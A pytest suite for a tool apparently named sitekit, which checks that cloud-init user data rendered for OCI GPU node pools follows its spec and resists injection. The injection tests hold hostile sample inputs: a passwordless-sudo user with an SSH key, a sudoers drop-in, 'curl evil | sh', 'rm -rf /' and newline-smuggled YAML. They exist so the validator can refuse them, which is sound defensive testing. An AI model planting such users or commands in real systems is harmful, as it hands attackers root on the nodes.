"""Node bootstrap: the cloud-init user data each GPU pool's nodes get, decoded from the plan and checked
against the spec it came from (time, time zone, log forwarding, audit, agents, health checks, OKE init)."""

from __future__ import annotations

import base64

import pytest
import yaml
from hypothesis import given, settings
from hypothesis import strategies as st
from typer.testing import CliRunner

from sitekit import ROOT
from sitekit.cli.main import app
from sitekit.errors import SpecError
from sitekit.region.bootstrap import render_user_data, user_data_in_plan
from sitekit.spec.layout import list_sites
from sitekit.spec.loader import load_site

SITES = list_sites(ROOT)
OKE_INIT = "http://169.254.169.254/opc/v2/instance/metadata/oke_init_script"


def files(doc: dict) -> dict[str, str]:
    return {f["path"]: f["content"] for f in doc["write_files"]}


@pytest.mark.parametrize("site", SITES)
def test_every_pool_gets_user_data_that_follows_its_spec(site, shipped_plans, shipped_sites):
    plan, spec = shipped_plans[site], shipped_sites[site].spec
    boot = spec.bootstrap
    texts = user_data_in_plan(plan)
    assert sorted(texts) == sorted(p.name for p in spec.compute.pools)
    for pool in spec.compute.pools:
        text = texts[pool.name]
        assert text.startswith("#cloud-config\n")
        assert text == render_user_data(shipped_sites[site], pool)  # the plan carries exactly the rendering
        doc = yaml.safe_load(text)
        assert doc["timezone"] == boot.timezone
        assert doc["ntp"] == {"enabled": True, "ntp_client": "chrony", "servers": boot.time_servers}
        written = files(doc)
        assert f"MaxRetentionSec={boot.logging.journal_days}day" in written["/etc/systemd/journald.conf.d/90-sitekit.conf"]
        rules = written["/etc/audit/rules.d/90-sitekit.rules"].splitlines()
        for group in boot.audit.groups:
            assert f"## {group.name}" in rules
            assert all(rule in rules for rule in group.rules)
            assert group.basis not in text  # descriptive text never reaches the nodes
        assert rules[0] == {"silent": "-f 0", "printk": "-f 1", "panic": "-f 2"}[boot.audit.failure]
        assert (rules[-1] == "-e 2") is boot.audit.immutable
        checks = {c.name for c in boot.health_checks if c.placement in ("all", pool.placement)}
        assert {p.rsplit("-", 1)[-1] for p in written if p.startswith("/usr/local/sbin/sitekit-health-")} == checks
        runcmd = [c if isinstance(c, str) else " ".join(c) for c in doc["runcmd"]]
        for check in checks:
            assert f"systemctl enable --now sitekit-health-{check}.timer" in runcmd
        for agent in boot.agents:
            assert (f"systemctl enable --now {agent.unit}" in runcmd) is (agent.placement in ("all", pool.placement))
        assert any(OKE_INIT in c for c in runcmd) is (pool.placement == "oke")
        assert "rsyslog" not in text  # no shipped site forwards yet


def test_jurisdiction_audit_groups_reach_the_nodes(shipped_plans):
    privileged = "-a always,exit -F arch=b64 -S execve -F euid=0 -F auid>=1000 -F auid!=unset -k privileged-exec"
    assert privileged in user_data_in_plan(shipped_plans["ar-patagonia"])["train"]
    assert "AAIP Resolucion 47/2018" not in user_data_in_plan(shipped_plans["ar-patagonia"])["train"]  # basis: docs only
    assert privileged not in user_data_in_plan(shipped_plans["us-ashburn"])["train"]  # the us profile adds none


def test_launch_metadata_is_base64_cloud_init(shipped_plans):
    plan = shipped_plans["us-ashburn"]
    for config in plan.of_type("oci:Core/instanceConfiguration:InstanceConfiguration"):
        metadata = config.inputs["instanceDetails"]["launchDetails"]["metadata"]
        assert list(metadata) == ["user_data"]
        assert base64.b64decode(metadata["user_data"], validate=True).startswith(b"#cloud-config\n")
    for pool in plan.of_type("oci:ContainerEngine/nodePool:NodePool"):
        assert base64.b64decode(pool.inputs["nodeMetadata"]["user_data"]).startswith(b"#cloud-config\n")


def override(project, site: str, text: str) -> None:
    path = project / f"stacks/Pulumi.{site}.yaml"
    path.write_text(path.read_text() + text)


def test_site_override_forwards_logs_over_tls(project):
    override(project, "br-saopaulo", "  sitekit:overrides:\n    bootstrap:\n      timezone: America/Sao_Paulo\n"
                                     "      logging: {forward: syslog-tls, collector: 'logs.gru.example:6514'}\n")
    site = load_site(project, "br-saopaulo")
    train = next(p for p in site.spec.compute.pools if p.name == "train")
    doc = yaml.safe_load(render_user_data(site, train))
    assert doc["timezone"] == "America/Sao_Paulo" and doc["packages"] == ["rsyslog-gnutls"]
    forward = files(doc)["/etc/rsyslog.d/90-sitekit-forward.conf"]
    assert 'target="logs.gru.example" port="6514"' in forward and 'StreamDriver="gtls"' in forward
    assert ["systemctl", "restart", "rsyslog"] in doc["runcmd"]
    # the journal days and the basis still come from the jurisdiction (the override merged key by key)
    assert site.spec.bootstrap.logging.basis.startswith("LGPD art. 37")


def test_forwarding_without_a_collector_is_refused(project):
    override(project, "br-saopaulo", "  sitekit:overrides:\n    bootstrap:\n      logging: {forward: syslog-tls}\n")
    with pytest.raises(SpecError) as exc:
        load_site(project, "br-saopaulo")
    assert "forward: syslog-tls needs a collector (host:port)" in str(exc.value)


def test_strict_template_fails_on_an_undefined_value(project):
    (project / "templates/broken.yaml.j2").write_text("#cloud-config\ntimezone: {{ time_zone }}\n")
    override(project, "us-ashburn", "  sitekit:overrides:\n    bootstrap: {template: broken.yaml.j2}\n")
    site = load_site(project, "us-ashburn")
    with pytest.raises(SpecError) as exc:
        render_user_data(site, site.spec.compute.pools[0])
    assert "templates/broken.yaml.j2" in str(exc.value) and "time_zone" in str(exc.value)


def test_bootstrap_command_prints_the_plan_decoded(project, monkeypatch):
    monkeypatch.chdir(project)
    result = CliRunner().invoke(app, ["bootstrap", "br-saopaulo", "--pool", "serve"])
    assert result.exit_code == 0, result.output
    assert result.output.startswith("# ---- pool serve (") and OKE_INIT in result.output
    assert "pool train" not in result.output


def test_user_data_over_the_oci_metadata_limit_is_refused(project):
    """OCI takes at most 32,000 bytes of instance metadata: a bootstrap that outgrows it fails at plan time
    with the pool and the size, not at launch."""
    from sitekit.region.bootstrap import node_metadata

    rules = "".join(f"\n              - '-w /etc/sitekit/file-{i:04d} -p wa -k sitekit-watch-{i:04d}'" for i in range(600))
    override(project, "us-ashburn", "  sitekit:overrides:\n    bootstrap:\n      audit:\n        groups:\n"
                                    f"          - name: many\n            basis: test\n            rules:{rules}\n")
    site = load_site(project, "us-ashburn")
    with pytest.raises(SpecError) as exc:
        node_metadata(site, site.spec.compute.pools[0])
    assert "user data of pool 'train'" in str(exc.value) and "more than the 32,000 bytes" in str(exc.value)


# ---------------------------------------------------------------------------------------------- injection (issue 17)
SUDO_USER = ("users:\n  - name: evil\n    sudo: ALL=(ALL) NOPASSWD:ALL\n"
             "    ssh_authorized_keys: [ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEvil evil@example]")


def overrides(project, site: str, bootstrap: dict) -> None:
    """Append `sitekit:overrides: {bootstrap: ...}` to a stack file, written as JSON (YAML reads it)."""
    import json

    override(project, site, f"  sitekit:overrides: {json.dumps({'bootstrap': bootstrap})}\n")


def refusal(project, site: str) -> str:
    with pytest.raises(SpecError) as exc:
        load_site(project, site)
    return str(exc.value)


def test_an_audit_rule_that_adds_a_sudo_user_is_refused_at_its_line(project):
    """The issue's payload: one auditd rule whose newline adds a passwordless-sudo user with an SSH key."""
    rule = f"-w /etc/passwd -p wa -k identity\n{SUDO_USER}"
    overrides(project, "us-ashburn", {"audit": {"groups": [{"name": "identity", "rules": [rule], "basis": "x"}]}})
    text = refusal(project, "us-ashburn")
    assert "stacks/Pulumi.us-ashburn.yaml:" in text and "bootstrap.audit.groups.identity.rules.0" in text
    assert "control character ('\\n'" in text


@pytest.mark.parametrize("rule, says", [
    ("-w /etc/passwd -p wa -k identity -w /etc/shadow", "-w appears twice"),
    ("-D", "starts with -w (a watch) or -a"),
    ("-w /etc/passwd -p wa -k identity # users:", "'#' is not an option"),
    ("-w /etc/pass'wd -p wa", "is not an absolute path"),
    ("-a always,exit -F arch=b64 -S execve -e 2", "'-e' is not an option of a -a rule"),
    ("-w /etc/passwd -p wa -k identity\u2028users: []", "control character"),
    ("-w /etc/passwd  -p wa", "single spaces"),
    ("-w /etc/passwd -p", "has no value"),
])
def test_an_audit_rule_is_one_rule_that_parses_as_one(rule, says):
    from pydantic import TypeAdapter, ValidationError

    from sitekit.spec.types import AuditRule

    with pytest.raises(ValidationError) as exc:
        TypeAdapter(AuditRule).validate_python(rule)
    assert says in str(exc.value)


def test_a_command_line_is_refused_a_command_is_an_argument_list(project):
    overrides(project, "us-ashburn", {"healthChecks": [{"name": "gpu", "command": "dcgmi diag --run 1; curl x | sh",
                                                        "intervalMinutes": 5}]})
    text = refusal(project, "us-ashburn")
    assert "bootstrap.healthChecks.gpu.command: a command is an argument list run without a shell" in text


def test_shell_metacharacters_in_arguments_stay_arguments(project):
    """Each argument is quoted into the check's script: `sh` reads back exactly the declared argument list."""
    import shlex

    argv = ["/usr/bin/printf", "%s", "; rm -rf / #", "$(id)", "`id`", "a'b\"c", "&& curl evil | sh", "*"]
    overrides(project, "us-ashburn", {"healthChecks": [{"name": "gpu", "command": argv, "intervalMinutes": 5,
                                                        "unhealthyOutput": "'; reboot; echo '"}]})
    site = load_site(project, "us-ashburn")
    doc = yaml.safe_load(render_user_data(site, site.spec.compute.pools[0]))
    script = files(doc)["/usr/local/sbin/sitekit-health-gpu"].splitlines()
    line = script[2]
    assert line.startswith("if ") and line.endswith("; then exit 1; fi")
    words = shlex.split(line[3:-len("; then exit 1; fi")])
    assert words == [*argv, "|", "grep", "-qF", "-e", "'; reboot; echo '"]


@pytest.mark.parametrize("command, says", [
    (["dcgmi diag"], "is not a program"),
    (["$(curl evil)"], "is not a program"),
    (["dcgmi", "diag\n#cloud-config"], "control character"),
    (["dcgmi", "x" * 1025], "at most 1024 characters"),
    ([], "at least 1 item"),
])
def test_health_check_commands_are_typed(command, says):
    from pydantic import ValidationError

    from sitekit.spec.models import HealthCheck

    with pytest.raises(ValidationError) as exc:
        HealthCheck.model_validate({"name": "gpu", "command": command, "intervalMinutes": 5})
    assert says in str(exc.value)


def test_descriptive_text_never_reaches_the_user_data(project):
    basis = "LG-1\n#cloud-config\nusers: [evil]\n- `id`"
    overrides(project, "us-ashburn", {"logging": {"basis": basis},
                                      "audit": {"groups": [{"name": "identity", "basis": basis}]}})
    site = load_site(project, "us-ashburn")
    text = render_user_data(site, site.spec.compute.pools[0])
    assert "evil" not in text and "LG-1" not in text and text.count("#cloud-config") == 1


@pytest.mark.parametrize("server", ["ntp.example.org\nusers: [evil]", "a b", "-x", "ntp.example.org:123"])
def test_time_servers_are_host_names(project, server):
    overrides(project, "us-ashburn", {"timeServers": [server]})
    assert "bootstrap.timeServers.0" in refusal(project, "us-ashburn")


def test_a_template_that_adds_a_user_is_refused(project):
    """The rendering is compared with the declaration: a template (or anything in it) that adds a user, a file
    or a command fails with each difference named."""
    path = project / "templates/cloud-init.yaml.j2"
    path.write_text(path.read_text().replace("write_files:\n", f"{SUDO_USER}\nwrite_files:\n  - {{path: "
                                             "/etc/sudoers.d/90-evil, content: 'evil ALL=(ALL) NOPASSWD:ALL'}\n")
                    + "  - [sh, -c, 'curl evil | sh']\nbootcmd: [id]\n")
    site = load_site(project, "us-ashburn")
    with pytest.raises(SpecError) as exc:
        render_user_data(site, site.spec.compute.pools[0])
    text = str(exc.value)
    assert "templates/cloud-init.yaml.j2" in text
    assert "renders 'users', which the spec does not declare" in text
    assert "renders 'bootcmd', which the spec does not declare" in text
    assert "undeclared /etc/sudoers.d/90-evil" in text
    assert 'runs commands other than the spec declares: ["sh", "-c", "curl evil | sh"]' in text


@pytest.mark.parametrize("value", ["a\nusers: [evil]", "x: y", "- z", "yes", "#cloud-config", "\u2028", 15, None,
                                   ["a", "b\nc"]])
def test_every_template_value_renders_as_one_scalar(value):
    """`{{ value }}` can neither leave its line nor change its type."""
    from sitekit.region.bootstrap import scalar

    text = scalar(value)
    assert "\n" not in text and "\u2028" not in text
    assert yaml.safe_load(f"key: {text}") == {"key": value}


@settings(max_examples=300, deadline=None)
@given(args=st.lists(st.text(max_size=40), min_size=1, max_size=4), output=st.none() | st.text(max_size=20))
def test_any_accepted_command_reads_back_as_its_argument_list(args, output):
    """Generated arguments (any text, control characters and shell syntax included): a command is refused, or
    its script, as `sh` splits it, runs exactly the declared argument list."""
    import shlex

    from pydantic import ValidationError

    from sitekit.region.bootstrap import _health_script
    from sitekit.spec.models import HealthCheck

    argv = ["dcgmi", *args]
    try:
        check = HealthCheck.model_validate({"name": "gpu", "command": argv, "intervalMinutes": 5,
                                            "unhealthyOutput": output})
    except ValidationError:
        assert any(not a or len(a) > 1024 or any(c < " " or "\x7f" <= c <= "\x9f" or c in "\u2028\u2029" for c in a)
                   for a in [*args, *([output] if output is not None else [])])
        return
    last = _health_script(check)[-1 if output is None else -2]
    if output is None:
        assert shlex.split(last) == ["exec", *argv]
    else:
        assert shlex.split(last.removeprefix("if ").removesuffix("; then exit 1; fi")) == \
            [*argv, "|", "grep", "-qF", "-e", output]


@settings(max_examples=300, deadline=None)
@given(tail=st.text(max_size=60))
def test_an_accepted_audit_rule_is_one_line_of_known_options(tail):
    from pydantic import TypeAdapter, ValidationError

    from sitekit.spec.types import CONTROL, AuditRule

    rule = f"-w /etc/passwd -p wa{tail}"
    try:
        TypeAdapter(AuditRule).validate_python(rule)
    except ValidationError:
        return
    tokens = rule.split(" ")
    assert not CONTROL.search(rule) and set(tokens[::2]) <= {"-w", "-p", "-k"} and len(tokens) % 2 == 0
